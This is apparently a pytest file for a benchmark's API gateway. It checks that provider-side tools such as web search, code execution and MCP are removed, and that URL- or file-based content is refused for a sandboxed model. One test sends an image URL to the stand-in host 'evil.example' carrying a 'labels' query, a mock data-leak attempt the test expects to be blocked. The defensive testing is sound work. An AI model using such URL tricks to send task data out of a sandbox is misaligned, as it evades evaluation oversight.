"""What a provider must not do for a model in a sandbox, dialect by dialect."""

import copy
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.responses import JSONResponse

from mlebench.services.gateway.answers import Answer, judge
from mlebench.services.gateway.dialects import Route
from mlebench.services.gateway.policy import Refused, clean
from mlebench.services.gateway.replay import request_key, request_shape
from mlebench.services.gateway.upstreams import DIALECTS
from mlebench.services.gateway.usage import tokens_of

FUNCTION = {"type": "function", "function": {"name": "bash", "parameters": {"type": "object"}}}
FLAT = {"type": "function", "name": "bash", "parameters": {}}
BASH = {"name": "bash", "input_schema": {"type": "object"}}
DECLARED = {"functionDeclarations": [{"name": "bash"}]}

REMOVED = [
    ("google", {"Tools": [{"googleSearch": {}}], "tools": [DECLARED]}, {"tools": [DECLARED]}, ["Tools"]),
    (
        "anthropic",
        {"tools": [BASH, {"type": "bash_code_execution_20250825", "name": "b"}]},
        {"tools": [BASH]},
        ["bash_code_execution_20250825"],
    ),
    ("openai-chat", {"web_search_options": {}}, {}, ["web_search_options"]),
    ("openai-chat", {"plugins": [{"id": "web"}], "models": ["other"]}, {}, ["models", "plugins"]),
    ("openai-chat", {"tools": [FUNCTION, {"type": "web_search"}]}, {"tools": [FUNCTION]}, ["web_search"]),
    (
        "openai-chat",
        {"tools": [{"type": "builtin_function", "function": {"name": "$web_search"}}]},
        {},
        ["builtin_function"],
    ),
    ("openai-chat", {"service_tier": "priority"}, {}, ["service_tier"]),
    ("openai-chat", {"service_tier": "auto"}, {"service_tier": "auto"}, []),
    (
        "openai-responses",
        {"tools": [FLAT, {"type": "web_search"}, {"type": "code_interpreter"}], "tool_choice": {"type": "web_search"}},
        {"tools": [FLAT]},
        ["web_search", "code_interpreter"],
    ),
    (
        "openai-responses",
        {"tools": [{"type": "mcp", "server_url": "https://x"}], "tool_choice": "auto", "parallel_tool_calls": True},
        {},
        ["mcp"],
    ),
    ("openai-responses", {"tools": [{"type": "web_search_preview_2025_03_11"}]}, {}, ["web_search_preview_2025_03_11"]),
    ("openai-responses", {"tools": [{"type": "shell"}]}, {}, ["shell"]),
    (
        "openai-responses",
        {"tools": [{"type": "shell", "environment": {"type": "container_auto"}}]},
        {},
        ["shell"],
    ),
    (
        "openai-responses",
        {"tools": [{"type": "namespace", "name": "n", "tools": [FLAT, {"type": "file_search"}]}]},
        {"tools": [{"type": "namespace", "name": "n", "tools": [FLAT]}]},
        ["file_search"],
    ),
    (
        "openai-responses",
        {"input": [{"type": "additional_tools", "tools": [FLAT, {"type": "image_generation"}]}]},
        {"input": [{"type": "additional_tools", "tools": [FLAT]}]},
        ["image_generation"],
    ),
    (
        "openai-responses",
        {"tools": [FLAT, {"type": "web_search"}], "tool_choice": {"type": "function", "name": "bash"}},
        {"tools": [FLAT], "tool_choice": {"type": "function", "name": "bash"}},
        ["web_search"],
    ),
    (
        "openai-responses",
        {
            "tools": [FLAT, {"type": "web_search"}],
            "tool_choice": {"type": "allowed_tools", "tools": [{"type": "web_search"}]},
        },
        {"tools": [FLAT]},
        ["web_search"],
    ),
    (
        "anthropic",
        {
            "tools": [BASH, {"type": "web_search_20250305", "name": "web_search"}],
            "tool_choice": {"type": "tool", "name": "web_search"},
        },
        {"tools": [BASH]},
        ["web_search_20250305"],
    ),
    (
        "anthropic",
        {"tools": [{"type": "web_fetch_20250910"}, {"type": "code_execution_20250825"}]},
        {},
        ["web_fetch_20250910", "code_execution_20250825"],
    ),
    ("anthropic", {"mcp_servers": [{"url": "https://x"}], "container": "c"}, {}, ["container", "mcp_servers"]),
    ("anthropic", {"fallbacks": [{"model": "other"}], "speed": "fast"}, {}, ["fallbacks", "speed"]),
    ("anthropic", {"tools": [{"type": "advisor_20260301", "model": "other"}]}, {}, ["advisor_20260301"]),
    ("google", {"tools": [DECLARED, {"googleSearch": {}}]}, {"tools": [DECLARED]}, ["googleSearch"]),
    (
        "google",
        {"tools": [{"google_search": {}}, {"codeExecution": {}}], "toolConfig": {}},
        {},
        ["google_search", "codeExecution"],
    ),
    ("google", {"tools": {"url_context": {}}}, {}, ["url_context"]),
    (
        "google",
        {"tools": [{"googleSearchRetrieval": {}, **DECLARED}]},
        {"tools": [DECLARED]},
        ["googleSearchRetrieval"],
    ),
    ("openai-completions", {"plugins": []}, {}, ["plugins"]),
]


@pytest.mark.parametrize(("dialect", "body", "left", "removed"), REMOVED, ids=range(len(REMOVED)))
def test_what_is_removed(dialect, body, left, removed):
    body = copy.deepcopy(body)
    assert sorted(clean(dialect, body)) == sorted(removed)
    assert body == left


KEPT = [
    ("openai-chat", {"tools": [FUNCTION, {"type": "custom"}], "tool_choice": "auto"}),
    (
        "openai-chat",
        {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:x"}}]}]},
    ),
    ("openai-responses", {"tools": [FLAT, {"type": "local_shell"}, {"type": "apply_patch"}, {"type": "custom"}]}),
    ("openai-responses", {"tools": [{"type": "shell", "environment": {"type": "local"}}], "store": False}),
    ("openai-responses", {"input": [{"type": "function_call", "arguments": '{"image_url": "http://x"}'}]}),
    (
        "openai-responses",
        {"input": [{"type": "reasoning", "id": "rs_1", "encrypted_content": "x"}], "background": False},
    ),
    ("openai-responses", {"input": [{"role": "user", "content": [{"type": "input_image", "image_url": "data:x"}]}]}),
    ("anthropic", {"tools": [BASH, {"type": "bash_20250124"}, {"type": "text_editor_20250728"}, {"type": "custom"}]}),
    ("anthropic", {"tools": [{"type": "memory_20250818"}, {"type": "tool_search_tool_bm25_20251119"}]}),
    (
        "anthropic",
        {"messages": [{"role": "assistant", "content": [{"type": "tool_use", "input": {"source": {"type": "url"}}}]}]},
    ),
    ("anthropic", {"messages": [{"content": [{"type": "server_tool_use", "name": "tool_search_tool_bm25"}]}]}),
    ("anthropic", {"context_management": {"edits": []}, "thinking": {"type": "enabled"}, "metadata": {"user_id": "x"}}),
    ("google", {"tools": [DECLARED], "toolConfig": {"functionCallingConfig": {"mode": "ANY"}}}),
    ("google", {"contents": [{"parts": [{"inlineData": {"data": "x"}}, {"functionCall": {"args": {"fileData": 1}}}]}]}),
    ("google", {"contents": {"parts": {"text": "http://x"}}}),
    ("openai-embeddings", {"input": ["http://x"]}),
    ("openai-chat", {"messages": "odd", "tools": None}),
    ("anthropic", {"messages": [None, 3, {"content": None}]}),
]


@pytest.mark.parametrize(("dialect", "body"), KEPT, ids=range(len(KEPT)))
def test_what_is_left_alone(dialect, body):
    before = copy.deepcopy(body)
    assert clean(dialect, body) == []
    assert body == before


def in_message(*content):
    return {"messages": [{"role": "user", "content": list(content)}]}


REFUSED = [
    (
        "anthropic",
        {"messages": [{"content": [{"type": "document", "source": {"type": "URL", "url": "https://x"}}]}]},
        "URL",
    ),
    ("openai-chat", in_message({"type": "image_url", "image_url": {"url": "https://x/y.png"}}), "image_url"),
    ("openai-chat", in_message({"type": "file", "file": {"file_id": "file-1"}}), "file_id"),
    ("openai-chat", {"messages": {"content": {"type": "image_url", "image_url": "ftp://x"}}}, "image_url"),
    ("openai-chat", in_message({"type": "video_url", "video_url": {"url": "http://x"}}), "video_url"),
    ("openai-responses", {"input": [{"content": [{"type": "input_image", "image_url": "http://x"}]}]}, "image_url"),
    ("openai-responses", {"input": [{"content": [{"type": "input_file", "file_url": "http://x"}]}]}, "file_url"),
    ("openai-responses", {"input": [{"type": "function_call_output", "output": [{"file_id": "f"}]}]}, "file_id"),
    (
        "openai-responses",
        {"input": [{"type": "computer_call_output", "output": {"image_url": "http://x"}}]},
        "image_url",
    ),
    ("openai-responses", {"input": [{"type": "web_search_call"}]}, "web_search_call"),
    ("openai-responses", {"input": [{"type": "mcp_approval_response"}]}, "mcp_approval_response"),
    ("openai-responses", {"input": [{"type": "item_reference", "id": "rs_2"}]}, "item_reference"),
    ("openai-responses", {"previous_response_id": "resp_2"}, "previous_response_id"),
    ("openai-responses", {"previous_response_id": ["resp_2"]}, "previous_response_id"),
    ("openai-responses", {"conversation": "conv_1"}, "conversation"),
    ("openai-responses", {"background": True}, "background"),
    ("openai-responses", {"prompt": {"id": "pmpt_1"}}, "prompt"),
    ("anthropic", in_message({"type": "image", "source": {"type": "url", "url": "http://x"}}), "url"),
    ("anthropic", in_message({"type": "document", "source": {"type": "file", "file_id": "f"}}), "file"),
    (
        "anthropic",
        in_message({"type": "tool_result", "content": [{"type": "image", "source": {"type": "url"}}]}),
        "url",
    ),
    ("anthropic", in_message({"type": "web_search_tool_result", "content": []}), "web_search_tool_result"),
    ("anthropic", in_message({"type": "server_tool_use", "name": "web_search"}), "server_tool_use"),
    ("anthropic", in_message({"type": "container_upload", "file_id": "f"}), "container_upload"),
    (
        "anthropic",
        in_message(
            {"type": "tool_addition", "tool": {"type": "tool_definition", "definition": {"type": "web_search_1"}}}
        ),
        "web_search_1",
    ),
    ("anthropic", in_message({"type": "tool_addition", "tool": {"type": "mcp_toolset_reference"}}), "mcp_toolset"),
    ("google", {"contents": [{"parts": [{"fileData": {"fileUri": "https://youtube.com/x"}}]}]}, "fileData"),
    ("google", {"contents": {"parts": {"file_data": {"file_uri": "gs://x"}}}}, "file_data"),
    ("google", {"system_instruction": {"parts": [{"file_data": {}}]}}, "file_data"),
    ("google", {"contents": [{"parts": [{"functionResponse": {"parts": [{"fileData": {}}]}}]}]}, "fileData"),
    ("google", {"contents": [{"parts": [{"codeExecutionResult": {}}]}]}, "codeExecutionResult"),
    ("google", {"cachedContent": "cachedContents/1"}, "cachedContent"),
    ("google", {"generateContentRequest": {"contents": [{"parts": [{"fileData": {}}]}]}}, "fileData"),
]


@pytest.mark.parametrize(("dialect", "body", "word"), REFUSED, ids=range(len(REFUSED)))
def test_what_is_refused(dialect, body, word):
    with pytest.raises(Refused) as caught:
        clean(dialect, body)
    assert word in str(caught.value)


def test_removed_tools_are_recorded_and_counted(start, upstream):
    tools = [FLAT, {"type": "web_search"}]
    with start() as running:
        assert running.post("/v1/responses", {"model": "solver", "input": "Hi", "tools": tools}).status_code == 200
        assert running.post("/v1/responses", {"model": "solver", "input": "Hi", "tools": tools}).status_code == 200
    assert [seen.body["tools"] for seen in upstream.seen] == [[FLAT]] * 2
    assert running.use.removed_tools == {"web_search": 2}
    assert running.recorded()[0]["removed"] == ["web_search"]
    assert running.recorded()[0]["request"]["tools"] == tools


def test_a_refused_request_is_recorded(start, upstream):
    with start() as running:
        answer = running.chat([{"type": "image_url", "image_url": {"url": "https://evil.example/?q=labels"}}])
    assert answer.status_code == 400
    assert "send the data itself" in answer.json()["error"]["message"]
    assert not upstream.seen
    assert "evil.example" in running.log.read_text()
    assert (running.use.refused, running.use.requests) == (1, 0)


def test_google_is_asked_for_no_other_model(start, upstream):
    with start() as running:
        running.post("/v1beta/models/solver:generateContent", {"model": "models/other", "contents": []})
    assert upstream.seen[0].body["model"] == "models/solver"


def test_a_policy_may_allow_them(start, upstream):
    body = {"model": "solver", "input": "Hi", "tools": [{"type": "web_search"}], "conversation": "c"}
    with start(provider_tools=True) as running:
        assert running.post("/v1/responses", body).status_code == 200
    assert upstream.seen[0].body["tools"] == [{"type": "web_search"}]
    assert running.use.removed_tools == {}


@pytest.mark.parametrize("stream", [False, True])
def test_only_own_answers_can_be_named(start, upstream, stream):
    body = {"model": "solver", "input": "Hi", "stream": stream}
    reference = [{"type": "item_reference", "id": "msg_1"}]
    with start() as running:
        for more in ({"previous_response_id": "resp_1"}, {"input": reference}):
            assert running.post("/v1/responses", body | more).status_code == 400
        assert running.post("/v1/responses", body).status_code == 200
        for more in ({"previous_response_id": "resp_1"}, {"input": reference}):
            assert running.post("/v1/responses", body | more).status_code == 200
        assert running.post("/v1/responses", body | {"previous_response_id": "resp_0"}).status_code == 400
    assert upstream.seen[1].body["previous_response_id"] == "resp_1"


@pytest.mark.parametrize("odd", [{"output": 5}, {"output": [3, {"id": 4}], "id": []}, {"response": 3}, {"item": [1]}])
def test_odd_answers_of_the_responses_dialect(start, upstream, odd):
    upstream.script.append(JSONResponse(odd))
    with start() as running:
        answer = running.post("/v1/responses", {"model": "solver", "input": "Hi"})
    assert (answer.status_code, answer.json()) == (200, odd)


def test_an_item_that_is_gone_is_the_agents_matter(start, upstream):
    error = {"error": {"message": "Item with id 'rs_1' not found.", "type": "invalid_request_error"}}
    upstream.script.append(JSONResponse(error, 404))
    with start() as running:
        assert running.post("/v1/responses", {"model": "solver", "input": "Hi"}).status_code == 404
    assert running.verdict is None


WORDS = (
    *(
        "model",
        "messages",
        "input",
        "contents",
        "parts",
        "content",
        "tools",
        "tool",
        "type",
        "function",
        "name",
        "source",
    ),
    *("tool_choice", "image_url", "url", "file", "system", "usage", "error", "response", "item", "choices", "message"),
    *("usageMetadata", "candidates", "functionResponse", "output", "definition", "tool_addition", "namespace", "shell"),
    *("environment", "allowed_tools", "previous_response_id", "functionDeclarations", "code", "finish_reason", "id"),
)
VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.sampled_from(WORDS)
    | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(WORDS), inner, max_size=5),
    max_leaves=25,
)


@given(st.sampled_from(DIALECTS), st.dictionaries(st.sampled_from(WORDS), VALUES, max_size=6), st.booleans())
def test_no_request_or_answer_is_too_odd(dialect, document, stream):
    """Whatever JSON says, it is cleaned or refused, told apart from others, judged and counted."""
    route = Route(dialect, "call")
    key = request_key(route, stream, "m", document), request_shape(route, stream, "m", document)
    body = f"data: {json.dumps(document)}\n\n" if stream else json.dumps(document)
    judgement = judge(Answer(200, {}, body.encode()), route, stream)
    assert judgement.action in ("deliver", "retry")
    tokens_of(dialect, judgement.documents)
    try:
        clean(dialect, document)
    except Refused:
        return
    again = copy.deepcopy(document)
    assert clean(dialect, again) == []
    assert again == document
    assert len(set(key)) == 2
